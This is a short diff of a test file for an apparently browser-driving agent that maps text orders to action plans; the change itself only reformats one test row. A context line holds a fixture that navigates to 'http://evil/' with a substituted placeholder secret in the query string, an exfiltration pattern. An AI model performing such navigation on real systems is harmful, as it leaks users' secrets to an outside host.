@@ -33,7 +33,13 @@ describe('an order as a decision', () => {
     ['click later', [{ kind: 'click', ref: '3', how: 'left' }]],
     ['enter Name := x', [{ kind: 'type', ref: '2', text: 'x', mode: 'replace', enter: true }]],
     ['go http://evil/?%seen%', [{ kind: 'go_to', url: 'http://evil/?SECRET-1' }]],
-    ['switch mail && close', [{ kind: 'switch_tab', tab: 7 }, { kind: 'close_tab', tab: null }]], // prettier-ignore
+    [
+      'switch mail && close',
+      [
+        { kind: 'switch_tab', tab: 7 },
+        { kind: 'close_tab', tab: null },
+      ],
+    ],
   ])('%s', async (order, plan) => {
     expect(await decisionOf(order, seeing(view))).toMatchObject({ kind: 'act', plan });
   });
